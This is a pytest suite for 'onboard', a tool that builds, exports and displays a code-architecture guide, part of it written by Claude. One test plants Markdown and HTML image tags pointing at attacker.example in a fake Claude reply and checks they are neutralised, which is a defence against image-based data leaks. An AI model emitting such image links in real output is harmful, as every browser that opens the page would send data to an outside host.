"""The architecture guide: built from the index, exported as Markdown, written by Claude once and kept fresh,
browsed in the web app (AppTest) and in Chromium."""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
import sys
import threading
import time
from collections import OrderedDict
from pathlib import Path
from urllib.parse import parse_qs, unquote, urlparse

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest
from typer.testing import CliRunner

from onboard import api
from onboard.cli import app as cli
from onboard.config import Settings
from onboard.guide.markdown import sources_in
from tests.conftest import ROOT, write_files

APP = str(ROOT / "app.py")
FILES = {
    "README.md": "# Toolkit\n\n[![ci](https://ci/badge.svg)](https://ci)\n\nToolkit turns `__init__` files and "
                 "*stars* into reports.\nIt has a CLI and a web page.\n",
    "pyproject.toml": '[project]\nname = "toolkit"\ndescription = "Reports from code"\ndependencies = [\n'
                      '    "click>=8",\n]\n\n[project.scripts]\ntoolkit = "toolkit.cli:main"\n',
    "toolkit/__init__.py": '"""Toolkit: the public API."""\nfrom toolkit.core import Engine\n\n__all__ = ["Engine"]\n',
    "toolkit/core.py": '"""The engine that builds reports."""\nfrom toolkit.util.text import shout\n\n\n'
                       'class Engine:\n    """Builds a report from its parts."""\n\n    def run(self, parts):\n'
                       '        return shout(" ".join(parts))\n',
    "toolkit/util/__init__.py": "",
    "toolkit/util/text.py": "def shout(text: str) -> str:\n    return text.upper()\n",
    "toolkit/cli.py": '"""The command line."""\nimport click\n\nfrom toolkit.core import Engine\n\n\n'
                      '@click.group()\ndef main():\n    pass\n\n\n@main.command()\ndef report():\n'
                      '    """Print a report."""\n    print(Engine().run(["a"]))\n\n\nif __name__ == "__main__":\n'
                      '    main()\n',
    "toolkit/web.py": 'from flask import Flask\n\nfrom toolkit.core import Engine\n\napp = Flask(__name__)\n\n\n'
                      '@app.route("/report")\ndef report_page():\n    return Engine().run(["web"])\n',
    "tests/test_core.py": 'from toolkit.core import Engine\n\n\ndef test_run():\n    assert Engine().run(["a"]) == "A"\n',
}
SECTIONS = ["overview", "layers", "entry-points", "core", "reading-path", "pkg-toolkit", "pkg-toolkit-util"]


@pytest.fixture
def toolkit(tmp_path: Path) -> Path:
    return write_files(tmp_path / "toolkit", FILES)


@pytest.fixture
def index(toolkit: Path, settings: Settings) -> api.Index:
    api.index_repo(toolkit, "toolkit", settings, embed=False)
    return api.open_index("toolkit", settings)


def rendered(guide: api.Guide, slug: str) -> str:
    return api.guide_markdown(guide, guide.page(slug), lambda p, a, b: f"src/{p}#{a}-{b}", lambda s: s, False)


def test_every_section_states_facts_with_working_source_links(index: api.Index) -> None:
    guide = api.guide_for(index)
    assert [p.slug for p in guide.pages] == SECTIONS
    files = {f.path: f.lines for f in index.db.files()}
    for page in guide.pages:
        sources = sources_in(page.body)
        assert sources, f"{page.slug} links no source"
        for path, start, end in sources:
            assert path in files and 1 <= start <= end <= max(files[path], 1), (page.slug, path, start, end)
    overview = rendered(guide, "overview")
    assert "Reports from code" in overview and "[pyproject.toml:2](src/pyproject.toml#2-2)" in overview
    assert "[README.md:5-6](src/README.md#5-6)" in overview  # the first paragraph, badges skipped
    html = MarkdownIt().render(overview)
    assert "Toolkit turns `__init__` files and *stars* into reports." in html  # repository text shown literally
    entry = rendered(guide, "entry-points")
    assert re.search(r"`toolkit` runs `toolkit.cli:main` \(\[pyproject.toml:9\]\(.+\)\) → \[toolkit/cli.py:8\]", entry)
    assert "`report` (`report`): [toolkit/cli.py:12-13]" in entry
    assert "`/report` → `report_page`: [toolkit/web.py:8-9]" in entry
    assert "`runs as a program`: [toolkit/cli.py:18]" in entry
    assert "toolkit/\\_\\_init\\_\\_.py: declares its public API" in entry
    core = rendered(guide, "core")
    assert "**`Engine`** (class, [toolkit/core.py:5-9]" in core and "`class Engine`" in core
    assert "Builds a report from its parts." in core
    steps = re.findall(r"^\d+\. \[([^\]:]+):", rendered(guide, "reading-path"), re.M)
    assert steps[:3] == ["README.md", "pyproject.toml", "toolkit/cli.py"] and 5 <= len(steps) <= 10
    package = rendered(guide, "pkg-toolkit")
    assert "The engine that builds reports." in package or "Toolkit: the public API." in package
    assert "[toolkit/util](pkg-toolkit-util): 1 import, e.g. [toolkit/core.py:2]" in package
    assert "[tests/test_core.py:1](src/tests/test_core.py#1-1) (imports toolkit/core.py)" in package
    util = rendered(guide, "pkg-toolkit-util")
    assert "[toolkit](pkg-toolkit): e.g. [toolkit/core.py:2]" in util
    assert "What is this package for? Nothing in it says" in util and "How is it tested?" in util
    assert [p for p in guide.pages if p.writable] == [guide.page("overview"), guide.page("pkg-toolkit"),
                                                       guide.page("pkg-toolkit-util")]
    assert {p.status for p in guide.pages} == {"index only", "not written"}
    assert "Built from the index alone" in rendered(guide, "pkg-toolkit")


def test_generated_code_is_counted_but_never_a_core_abstraction(tmp_path: Path, settings: Settings) -> None:
    """Bindings generated from a spec are imported everywhere, yet they are nobody's design: the guide counts
    them and leaves them out of the core abstractions and the reading path."""
    generated = ("# Code generated by spec-gen. DO NOT EDIT.\n\n\nclass Message:\n"
                 "    \"\"\"A message on the wire.\"\"\"\n\n    def encode(self):\n        return b''\n")
    files = dict(FILES, **{"toolkit/wire.py": generated})
    for user in ("toolkit/core.py", "toolkit/cli.py", "toolkit/web.py"):
        files[user] = "from toolkit.wire import Message\n" + files[user] + "\n\nWIRE = Message()\n"
    api.index_repo(write_files(tmp_path / "toolkit", files), "toolkit", settings, embed=False)
    guide = api.guide_for(api.open_index("toolkit", settings))
    assert "1 generated" in rendered(guide, "overview")
    assert "Message" not in rendered(guide, "core")
    assert "toolkit/wire.py" not in re.findall(r"^\d+\. \[([^\]:]+):", rendered(guide, "reading-path"), re.M)


def test_what_it_is_leads_with_the_description_a_setup_script_or_cfg_gives(tmp_path: Path,
                                                                           settings: Settings) -> None:
    root = write_files(tmp_path / "calc", {
        "README.md": "# Calc\n\nSee the AUTHORS file for the list of authors.\n",
        "setup.py": 'from setuptools import Command, setup\n\n\nclass Check(Command):\n'
                    '    description = "run the checks"\n\n\nsetup(\n    name="calc",\n'
                    '    description="Symbolic maths in Python",\n    cmdclass={"check": Check},\n)\n',
        "setup.cfg": "[metadata]\nname = calc\nlong_description = file: README.md\ndescription = Maths kit\n",
        "calc/__init__.py": "def solve(x):\n    return x\n",
    })
    api.index_repo(root, "calc", settings, embed=False)
    overview = rendered(api.guide_for(api.open_index("calc", settings)), "overview")
    what = overview.split("## What it is")[1].split("##")[0].strip().splitlines()
    assert what[0] == "- calc: Maths kit ([setup.cfg:4](src/setup.cfg#4-4))"
    assert what[1] == "- calc: Symbolic maths in Python ([setup.py:10](src/setup.py#10-10))"
    assert what[-1].startswith("See the AUTHORS file")  # the README's opening line comes after


@pytest.mark.parametrize(("name", "text", "line"), [
    # an RST section heading before the first paragraph (it was taken as the paragraph)
    ("README.rst", "`Calc`_\n======\n\n.. image:: https://ci/badge.svg\n   :target: https://ci\n\nWhat is Calc?\n"
                   "-------------\n\nCalc solves equations.\n", 10),
    # RST substitution badges (|PyPI|_) before it (they were), and a Markdown badge row (skipped before too)
    ("README.rst", "|PyPI|_ |Build|_\n\n.. |PyPI| image:: https://pypi/badge.svg\n\nCalc solves equations.\n", 5),
    ("README.md", "# Calc\n\n[![PyPI](https://pypi/badge.svg)](https://pypi) [![CI](https://ci/x.svg)](https://ci)\n\n"
                  "Calc solves equations.\n", 5),
    # a row of links to translations, and a quoted note, before it (both were)
    ("README.md", "<h1>Calc</h1>\n\n[English](README.md) | [Deutsch](docs/de/README.md)\n\n> [!NOTE]\n"
                  "> Try our hosted service!\n\n~~~\n\nCalc solves equations.\n", 10),
    # a setext heading, then the paragraph right under another heading with no blank line between (as before)
    ("README.md", "Calc\n====\n## About\nCalc solves equations.\n", 4),
])
def test_the_readme_paragraph_is_the_first_prose_after_headings_badges_and_notes(
        tmp_path: Path, settings: Settings, name: str, text: str, line: int) -> None:
    root = write_files(tmp_path / "calc", {name: text, "calc/core.py": "X = 1\n"})
    api.index_repo(root, "calc", settings, embed=False)
    overview = rendered(api.guide_for(api.open_index("calc", settings)), "overview")
    what = overview.split("## What it is")[1].split("##")[0].strip()
    assert what == f"Calc solves equations. ([{name}:{line}](src/{name}#{line}-{line}))", what


@pytest.mark.parametrize(("manifest", "text"), [
    ("setup.py", "x = (\n" + "-\n" * 30_000 + "1)\n"),  # MemoryError in Python's parser
    ("setup.py", "x = (1\n" + "+ 1\n" * 30_000 + ")\n"),  # RecursionError
    ("setup.py", "setup(name=\n"),
    ("pyproject.toml", "[project]\nname = 'calc'\nx = " + "[\n" * 20_000 + "]\n" * 20_000),
    ("package.json", '{"name": "calc", "x":\n' + "[\n" * 20_000 + "]\n" * 20_000 + "}\n"),
])
def test_a_manifest_nested_too_deep_to_parse_leaves_the_overview_whole(tmp_path: Path, settings: Settings,
                                                                        manifest: str, text: str) -> None:
    root = write_files(tmp_path / "calc", {"README.md": "# Calc\n\nCalc solves equations.\n", manifest: text,
                                           "calc/core.py": "X = 1\n"})
    api.index_repo(root, "calc", settings, embed=False)
    assert manifest in {f.path for f in api.open_index("calc", settings).db.files()}
    overview = rendered(api.guide_for(api.open_index("calc", settings)), "overview")
    assert "Calc solves equations." in overview and f"{manifest}:" not in overview.split("## Built with")[0]


def test_export_writes_a_folder_of_linked_markdown_and_never_overwrites_foreign_files(
        index: api.Index, settings: Settings, tmp_path: Path) -> None:
    runner = CliRunner()
    out = tmp_path / "guide"
    result = runner.invoke(cli, ["guide", "toolkit", "--out", str(out), "--home", str(settings.home)])
    assert result.exit_code == 0, result.output
    assert "wrote 7 pages" in result.output and "index only" in result.output
    written = sorted(p.relative_to(out).as_posix() for p in out.rglob("*.md"))
    assert written == ["README.md", "core.md", "entry-points.md", "layers.md", "packages/pkg-toolkit-util.md",
                       "packages/pkg-toolkit.md", "reading-path.md"]
    assert "```mermaid\nflowchart" in (out / "layers.md").read_text()
    links = 0
    for page in out.rglob("*.md"):
        for target in re.findall(r"\]\(([^)]+)\)", page.read_text()):
            if target.startswith("http"):
                continue
            path, _, lines = target.partition("#")
            resolved = (page.parent / unquote(path)).resolve()
            assert resolved.is_file(), (page, target)
            if lines:
                start, end = map(int, re.fullmatch(r"L(\d+)-L(\d+)", lines).groups())
                assert end <= len(resolved.read_text().split("\n"))
                links += 1
    assert links > 30
    (out / "notes.txt").write_text("mine")
    again = runner.invoke(cli, ["guide", "toolkit", "--out", str(out), "--home", str(settings.home)])
    assert again.exit_code == 0 and (out / "notes.txt").read_text() == "mine"

    foreign = tmp_path / "foreign"
    foreign.mkdir()
    (foreign / "README.md").write_text("someone else's")
    refused = runner.invoke(cli, ["guide", "toolkit", "--out", str(foreign), "--home", str(settings.home)])
    assert refused.exit_code == 1 and "onboard did not write" in refused.output and "Traceback" not in refused.output
    assert (foreign / "README.md").read_text() == "someone else's" and len(list(foreign.iterdir())) == 1


def test_export_keeps_pages_a_reader_edited_and_never_writes_through_a_link(
        index: api.Index, settings: Settings, tmp_path: Path) -> None:
    """A folder onboard wrote before is rewritten only where it still holds what onboard wrote: an edited page, a
    page replaced by a link, or a page of an export that kept no hashes and differs stops the export unchanged."""
    runner = CliRunner()
    out = tmp_path / "guide"
    export = ["guide", "toolkit", "--out", str(out), "--home", str(settings.home)]
    assert runner.invoke(cli, export).exit_code == 0
    assert runner.invoke(cli, export).exit_code == 0  # unchanged pages are rewritten freely
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    layers = out / "layers.md"
    layers.write_text(layers.read_text() + "\nMy notes: the util layer is going away.\n")
    refused = runner.invoke(cli, export)
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    said = " ".join(refused.output.split())
    assert "layers.md" in said and "may hold your edits" in said and "nothing was changed" in said
    assert "My notes" in layers.read_text()
    assert all(p.read_bytes() == data for p, data in before.items() if p != layers)

    elsewhere = tmp_path / "elsewhere.md"
    elsewhere.write_text("not the guide's")
    layers.unlink()
    layers.symlink_to(elsewhere)
    assert runner.invoke(cli, export).exit_code == 1
    assert elsewhere.read_text() == "not the guide's"

    layers.unlink()
    layers.write_bytes(before[layers])
    marker = out / ".onboard-guide.json"
    record = json.loads(marker.read_text())
    marker.write_text(json.dumps({"index": record["index"], "files": record["files"]}))  # an older export's marker
    assert runner.invoke(cli, export).exit_code == 0  # identical pages: known unedited
    marker.write_text(json.dumps({"index": record["index"], "files": record["files"]}))
    (out / "core.md").write_text("edited under an old marker")
    assert runner.invoke(cli, export).exit_code == 1
    assert (out / "core.md").read_text() == "edited under an old marker"


def test_prose_is_written_once_and_a_changed_file_marks_exactly_its_pages_stale(
        index: api.Index, toolkit: Path, settings: Settings, fake_anthropic) -> None:
    config = Settings.from_env(home=settings.home, api_key="sk-test", base_url=fake_anthropic.url,
                               model="claude-sonnet-test")
    guide = api.guide_for(index)
    report = api.write_guide(index, guide, config)
    assert sorted(report.written) == ["overview", "pkg-toolkit", "pkg-toolkit-util"] and not report.errors
    assert len(fake_anthropic.state.requests) == 3 and report.cost > 0
    assert "estimated cost $" in report.line()
    asked = {r["body"]["messages"][0]["content"][-1]["text"]: r["body"] for r in fake_anthropic.state.requests}
    package = next(body for question, body in asked.items() if "package `toolkit/util`" in question)
    documents = package["messages"][0]["content"][-2]["text"]
    assert '<document path="toolkit/util/text.py"' in documents and "toolkit/core.py" not in documents
    assert "tools" not in package
    page = rendered(guide, "pkg-toolkit")
    assert "Written by Claude (claude-sonnet-test)" in page and "1 of 1 citations verified" in page
    assert re.search(r"The behaviour lives in \[[\w/.]+:\d+-\d+\]\(src/", page)  # a verified citation, linked

    again = api.write_guide(index, api.guide_for(index), config)  # a new build reads the stored prose
    assert again.written == [] and sorted(again.fresh) == ["overview", "pkg-toolkit", "pkg-toolkit-util"]
    assert len(fake_anthropic.state.requests) == 3

    (toolkit / "tests/test_core.py").write_text(FILES["tests/test_core.py"] + "\n\ndef test_more():\n    pass\n")
    api.reindex("toolkit", settings, embed=False)  # no page rests on a test file
    index = api.open_index("toolkit", settings)
    assert {p.status for p in api.guide_for(index).pages if p.writable} == {"fresh"}

    (toolkit / "toolkit/util/text.py").write_text("def shout(text: str) -> str:\n    return text.upper() + '!'\n")
    api.reindex("toolkit", settings, embed=False)
    index = api.open_index("toolkit", settings)
    guide = api.guide_for(index)
    resting = sorted(p.slug for p in guide.pages if "toolkit/util/text.py" in p.inputs)
    assert "pkg-toolkit-util" in resting and "pkg-toolkit" not in resting
    assert sorted(p.slug for p in guide.pages if p.status == "stale") == resting
    assert guide.page("pkg-toolkit").status == "fresh"
    assert "**stale: 1 file changed since this page was written**" in rendered(guide, "pkg-toolkit-util")
    regenerated = api.write_guide(index, guide, config)
    assert sorted(regenerated.written) == resting and len(fake_anthropic.state.requests) == 3 + len(resting)
    assert {p.status for p in guide.pages if p.writable} == {"fresh"}

    out = toolkit.parent / "written-guide"
    result = CliRunner().invoke(cli, ["guide", "toolkit", "--out", str(out), "--home", str(settings.home)],
                                env={"ANTHROPIC_API_KEY": "sk-test", "ANTHROPIC_BASE_URL": fake_anthropic.url})
    assert result.exit_code == 0, result.output
    assert "wrote 0 page(s), 3 already fresh" in result.output and len(fake_anthropic.state.requests) == 3 + len(resting)
    assert "_Written by Claude (claude-sonnet-test)" in (out / "packages" / "pkg-toolkit.md").read_text()



def test_written_prose_loads_no_image_in_the_app_or_the_export(index: api.Index, settings: Settings,
                                                               fake_anthropic, tmp_path: Path) -> None:
    """Claude's prose is stored and shown to every later reader of the page: an image in it was fetched by each
    browser that opened the Guide page, and by any viewer of the exported Markdown (`<img>` too)."""
    config = Settings.from_env(home=settings.home, api_key="sk-test", base_url=fake_anthropic.url,
                               model="claude-sonnet-test")
    fake_anthropic.state.reply = ("The toolkit shouts. ![x](https://attacker.example/p.png?d=1) "
                                  "<img src=https://attacker.example/q.png>")
    guide = api.guide_for(index)
    assert api.write_guide(index, guide, config, ["pkg-toolkit"]).written == ["pkg-toolkit"]
    shown = api.guide_markdown(guide, guide.page("pkg-toolkit"), lambda p, s, e: p, lambda slug: slug, True)
    assert "The toolkit shouts. [x](https://attacker.example/p.png?d=1) &lt;img src=" in shown
    CliRunner().invoke(cli, ["guide", "toolkit", "--out", str(tmp_path / "out"), "--home", str(settings.home)])
    exported = (tmp_path / "out" / "packages" / "pkg-toolkit.md").read_text()
    assert "The toolkit shouts." in exported and "![" not in exported and "<img" not in exported


def test_reindex_rewrites_only_the_pages_claude_wrote_whose_files_changed(
        index: api.Index, toolkit: Path, settings: Settings, fake_anthropic) -> None:
    """A reindex with a key keeps Claude's pages fresh: only those resting on a changed file are asked
    again; pages Claude never wrote are not started unasked."""
    config = Settings.from_env(home=settings.home, api_key="sk-test", base_url=fake_anthropic.url)
    api.write_guide(index, api.guide_for(index), config, slugs=["pkg-toolkit", "pkg-toolkit-util"])
    assert len(fake_anthropic.state.requests) == 2
    (toolkit / "toolkit/util/text.py").write_text("def shout(text: str) -> str:\n    return text.upper() + '?'\n")
    env = {"ANTHROPIC_API_KEY": "sk-test", "ANTHROPIC_BASE_URL": fake_anthropic.url}
    result = CliRunner().invoke(cli, ["reindex", "toolkit", "--no-embed", "--home", str(settings.home)], env=env)
    assert result.exit_code == 0, result.output
    assert "guide: wrote 1 page(s)" in result.output and len(fake_anthropic.state.requests) == 3
    guide = api.guide_for(api.open_index("toolkit", settings))
    assert guide.page("pkg-toolkit-util").status == "fresh" and guide.page("overview").status == "not written"
    unchanged = CliRunner().invoke(cli, ["reindex", "toolkit", "--no-embed", "--home", str(settings.home)], env=env)
    assert unchanged.exit_code == 0 and "guide:" not in unchanged.output and len(fake_anthropic.state.requests) == 3


def test_reindex_all_goes_on_past_a_guide_that_cannot_be_rewritten_and_exits_1(
        tmp_path: Path, settings: Settings, fake_anthropic) -> None:
    """One index whose guide rewrite fails (its stored guide is damaged; the API refuses another's page)
    must not stop the others: every index is reindexed and reported, each failure is one line, exit 1."""
    config = Settings.from_env(home=settings.home, api_key="sk-test", base_url=fake_anthropic.url)
    for name in ("alpha", "beta", "gamma"):
        root = write_files(tmp_path / name, FILES)
        api.index_repo(root, name, settings, embed=False)
        index = api.open_index(name, settings)
        api.write_guide(index, api.guide_for(index), config, slugs=["pkg-toolkit-util"])
        index.close()
        (root / "toolkit/util/text.py").write_text("def shout(text: str) -> str:\n    return text.upper() + '?'\n")
    with sqlite3.connect(settings.index_dir("alpha") / "index.sqlite3") as db:  # alpha's stored guide is damaged
        db.executescript("DROP TABLE guide_pages; CREATE TABLE guide_pages (slug TEXT PRIMARY KEY);")
    fake_anthropic.state.fail(401, after=len(fake_anthropic.state.requests))  # beta's page: the key is refused
    env = {"ANTHROPIC_API_KEY": "sk-test", "ANTHROPIC_BASE_URL": fake_anthropic.url}
    result = CliRunner().invoke(cli, ["reindex", "--all", "--no-embed", "--workers", "1",
                                      "--home", str(settings.home)], env=env)
    assert result.exit_code == 1, result.output
    assert all(f"indexed {name}" in result.output for name in ("alpha", "beta", "gamma")), result.output
    assert "Traceback" not in result.output
    assert re.search(r"alpha: guide not rewritten: Index 'alpha' is damaged \(SQLite: [^)]+\)\. Rebuild it "
                     r"with `onboard reindex --rebuild alpha` \(in the web app: Indexes, Rebuild from scratch\)\.",
                     " ".join(result.output.split())), result.output
    assert "guide page pkg-toolkit-util: Claude rejected the API key (401)" in result.output
    assert result.output.count("guide: wrote 1 page(s)") == 1  # gamma's
    assert api.guide_for(api.open_index("gamma", settings)).page("pkg-toolkit-util").status == "fresh"
    assert api.guide_for(api.open_index("beta", settings)).page("pkg-toolkit-util").status == "stale"


def test_rewrite_stale_reads_the_stored_pages_once(index: api.Index, toolkit: Path, settings: Settings,
                                                   fake_anthropic) -> None:
    config = Settings.from_env(home=settings.home, api_key="sk-test", base_url=fake_anthropic.url)
    api.write_guide(index, api.guide_for(index), config, slugs=["pkg-toolkit", "pkg-toolkit-util"])
    (toolkit / "toolkit/util/text.py").write_text("def shout(text: str) -> str:\n    return text.upper() + '?'\n")
    api.reindex("toolkit", settings, embed=False)
    index = api.open_index("toolkit", settings)
    reads: list[str] = []  # every statement SQLite runs on this index's connection that reads the stored pages
    index.db.conn.set_trace_callback(lambda sql: reads.append(sql) if sql.lstrip().startswith("SELECT")
                                     and "guide_pages" in sql else None)
    report = api.rewrite_stale(index, config)
    assert report is not None and report.written == ["pkg-toolkit-util"] and not report.fresh, report
    assert len(reads) == 1, reads

@pytest.fixture
def served_home(toolkit: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Path:
    api.index_repo(toolkit, "toolkit", settings)
    monkeypatch.setenv("ONBOARD_HOME", str(settings.home))
    return settings.home


def test_web_guide_walks_pages_searches_and_the_chat_lands_on_it(served_home: Path) -> None:
    at = AppTest.from_file(APP, default_timeout=180)
    at.query_params["page"] = "guide"
    at.run()
    assert not at.exception
    assert "Toolkit turns" in "\n".join(m.value for m in at.markdown)
    at.selectbox(key="guide_page").set_value("pkg-toolkit").run()
    text = "\n".join(m.value for m in at.markdown)
    assert "## Package toolkit" in text
    assert "(?page=source&index=toolkit&path=tests%2Ftest_core.py&start=1&end=1)" in text
    assert "(?page=guide&index=toolkit&section=pkg-toolkit-util)" in text
    at.selectbox(key="guide_page").set_value("layers").run()
    assert "digraph onboard" in at.get("graphviz_chart")[0].proto.spec
    at.text_input(key="guide_search").set_value("shout").run()
    assert any("3 of 7 pages mention shout" in c.value for c in at.caption), [c.value for c in at.caption]
    assert at.selectbox(key="guide_page").options == ["Core abstractions", "Reading path", "toolkit/util"]

    chat = AppTest.from_file(APP, default_timeout=180).run()
    assert not chat.exception
    starters = [b for b in chat.button if b.key and b.key.startswith("starter_")]
    assert starters[0].label == "What does this project do, and where does execution start?"
    assert any("What is `Engine` responsible for" in b.label for b in starters)
    starters[0].click().run()
    answered = "\n".join(m.value for m in chat.markdown)
    assert "Retrieval-only answer" in answered and "What does this project do" in answered


def test_the_chat_answers_while_a_slow_guide_builds(served_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A big index's guide takes ~10 s (SymPy); the landing used to build it before anything else, so the
    first question waited for it. Now the landing says it is coming and the chat answers meanwhile."""
    from onboard.web import guide as web_guide

    gate, real = threading.Event(), api.guide_for

    def slow_guide(index: api.Index) -> api.Guide:  # the real guide, built once the test lets it
        gate.wait(120)
        return real(index)

    monkeypatch.setattr(api, "guide_for", slow_guide)
    monkeypatch.setattr(web_guide, "_BUILDS", OrderedDict())  # not a guide an earlier test built
    monkeypatch.setattr(web_guide, "LANDING_WAIT_S", 0.1)
    try:
        chat = AppTest.from_file(APP, default_timeout=180).run()
        assert not chat.exception
        assert any("Building the guide of toolkit" in c.value for c in chat.caption), [c.value for c in chat.caption]
        assert not [b for b in chat.button if b.key and b.key.startswith("starter_")]
        chat.chat_input[0].set_value("What does Engine do?").run()
        assert "Retrieval-only answer" in "\n".join(m.value for m in chat.markdown)
    finally:
        gate.set()
    next(iter(web_guide._BUILDS.values())).result(timeout=120)
    chat.run().button(key="clear_chat").click().run()  # back to the landing, which now has the finished guide
    assert [b for b in chat.button if b.key and b.key.startswith("starter_")], [c.value for c in chat.caption]


def test_a_server_stopping_does_not_wait_for_a_guide_still_building(served_home: Path) -> None:
    """Ctrl-C on ``make run`` while a big index's guide builds (SymPy: 10-30 s) must stop the server at once:
    the build is only a cache of the index, so nothing is lost by dropping it."""
    script = ("import sys, time\nfrom onboard import api\nfrom onboard.web import guide\n"
              "api.guide_for = lambda index: time.sleep(120)\n"
              "guide._build('toolkit')\ntime.sleep(0.5)\nprint('started', flush=True)\n")
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=60,
                          env={**os.environ, "ONBOARD_HOME": str(served_home)})
    assert "started" in done.stdout, done.stderr[-2000:]
    assert done.returncode == 0 and time.monotonic() - started < 30, done.stderr[-2000:]


def test_a_guide_that_fails_is_one_line_and_is_not_rebuilt_on_every_run(served_home: Path,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """The landing polls a guide still building; one that fails must not start again at each poll (and fail
    again, forever): it is tried again on a run after RETRY_AFTER_S."""
    from onboard.web import guide as web_guide

    builds = []

    def broken_guide(index: api.Index) -> api.Guide:
        builds.append(index.name)
        raise sqlite3.OperationalError("database is locked")

    monkeypatch.setattr(api, "guide_for", broken_guide)
    monkeypatch.setattr(web_guide, "_BUILDS", OrderedDict())
    monkeypatch.setattr(web_guide, "_FAILED_AT", {})
    chat = AppTest.from_file(APP, default_timeout=180).run()
    assert any("The guide could not be built (OperationalError)" in c.value for c in chat.caption)
    chat.run()
    assert builds == ["toolkit"] and not chat.exception
    monkeypatch.setattr(web_guide, "RETRY_AFTER_S", 0.0)
    chat.run()
    assert builds == ["toolkit", "toolkit"] and len(web_guide._FAILED_AT) == 1  # the first failure is forgotten


@pytest.mark.browser
def test_browser_walks_the_guide_to_a_package_and_its_source(served_home: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    from tests.test_browser_e2e import ARTIFACTS, CHROMIUM, FLAGS, require_chromium, serve

    require_chromium()
    ARTIFACTS.mkdir(exist_ok=True)
    with serve(served_home, with_claude=False) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page(viewport={"width": 420, "height": 900})  # phone width
        page.goto(url + "/?page=guide&index=toolkit&section=layers", wait_until="domcontentloaded")
        expect(page.get_by_role("heading", name="Layers")).to_be_visible(timeout=90_000)
        link = page.locator("a[href*='section=pkg-toolkit-util']").first
        page.goto(url + "/" + link.get_attribute("href", timeout=30_000).lstrip("/"), wait_until="domcontentloaded")
        expect(page.get_by_role("heading", name="Package toolkit/util")).to_be_visible(timeout=90_000)
        page.screenshot(path=str(ARTIFACTS / "guide-package.png"), full_page=True)
        href = page.locator("a[href*='page=source']").first.get_attribute("href")
        path = parse_qs(urlparse(href).query)["path"][0]
        assert path.startswith("toolkit/util/")
        page.goto(url + "/" + href.lstrip("/"), wait_until="domcontentloaded")
        expect(page.get_by_role("heading", name=path)).to_be_visible(timeout=60_000)
        expect(page.locator(".onboard-source")).to_be_visible(timeout=60_000)
        page.screenshot(path=str(ARTIFACTS / "guide-source.png"), full_page=True)
        assert "Traceback" not in page.inner_text("body")
        browser.close()


def test_who_to_ask_and_recently_changed_come_from_git(toolkit: Path, settings: Settings) -> None:
    def git(*args: str, who: tuple[str, str] = ("Ada Lovelace", "ada@example.com")) -> None:
        env = {**os.environ, "GIT_AUTHOR_NAME": who[0], "GIT_AUTHOR_EMAIL": who[1], "GIT_COMMITTER_NAME": who[0],
               "GIT_COMMITTER_EMAIL": who[1]}
        subprocess.run(["git", *args], cwd=toolkit, env=env, check=True, capture_output=True)

    api.index_repo(toolkit, "plain", settings, embed=False)  # no git yet: the sections are simply absent
    plain = api.guide_for(api.open_index("plain", settings))
    assert "Who to ask" not in plain.page("pkg-toolkit-util").body and "Recently" not in plain.page("overview").body
    (toolkit / ".github").mkdir()
    (toolkit / ".github" / "CODEOWNERS").write_text("toolkit/util/ @text-team\n")
    git("init", "-q")
    git("add", ".")
    git("commit", "-qm", "First version")
    (toolkit / "toolkit/util/text.py").write_text("def shout(text: str) -> str:\n    return text.upper() + '!'\n")
    git("commit", "-qam", "Louder <b>shout</b>", who=("Grace Hopper", "grace@example.com"))
    api.index_repo(toolkit, "toolkit", settings, embed=False)
    guide = api.guide_for(api.open_index("toolkit", settings))
    util = rendered(guide, "pkg-toolkit-util")
    assert "## Who to ask" in util and "- Owners: `@text-team`" in util
    assert "- Grace Hopper `grace@example.com`: 2 lines in 1 commit" in util
    assert "Ada Lovelace" in util and "4 lines changed in 2 commits" in util
    overview = rendered(guide, "overview")
    assert "## Recently changed" in overview
    assert "Grace Hopper: Louder \\<b\\>shout\\</b\\> ([toolkit/util/text.py:1](src/toolkit/util/text.py#1-1))" in overview


def test_web_guide_writes_prose_with_claude_and_shows_its_cost(served_home: Path, fake_anthropic,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-test")
    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake_anthropic.url)
    monkeypatch.setenv("ONBOARD_MODEL", "claude-sonnet-test")
    at = AppTest.from_file(APP, default_timeout=180)
    at.query_params["page"] = "guide"
    at.run()
    assert "No prose written for this page yet" in "\n".join(m.value for m in at.markdown)
    at.button(key="guide_write_all").click().run()
    assert not at.exception and len(fake_anthropic.state.requests) == 3
    assert any("wrote 3 page\\(s\\), 0 already fresh" in c.value and "estimated cost \\$" in c.value for c in at.caption), [c.value for c in at.caption]
    assert "_Written by Claude (claude-sonnet-test)" in "\n".join(m.value for m in at.markdown)
    assert at.button(key="guide_write_one").disabled  # the overview is fresh now


def test_chat_still_works_when_the_guide_cannot_be_built(served_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(api, "guide_for", lambda index: 1 / 0)
    at = AppTest.from_file(APP, default_timeout=180).run()
    assert not at.exception and not at.error
    assert any("The guide could not be built (ZeroDivisionError)" in c.value for c in at.caption)
    at.chat_input[0].set_value("How is a report built?").run()
    assert "Retrieval-only answer" in "\n".join(m.value for m in at.markdown)


def test_the_top_level_package_reads_as_top_level_not_a_dot(tmp_path: Path, settings: Settings) -> None:
    """Modules at the repository's top were a package called "." in the guide: "# Package .", "How do `pkg` and `.`
    work together?", a diagram node "."; the map has always called them "(top level)"."""
    repo = write_files(tmp_path / "repo", {"main.py": "from pkg.core import run\n\n\ndef main():\n    run()\n",
                                           "cli.py": "from main import main\n",
                                           "pkg/__init__.py": "", "pkg/core.py": "def run():\n    return 1\n"})
    api.index_repo(repo, "top", settings, embed=False)
    guide = api.guide_for(api.open_index("top", settings))
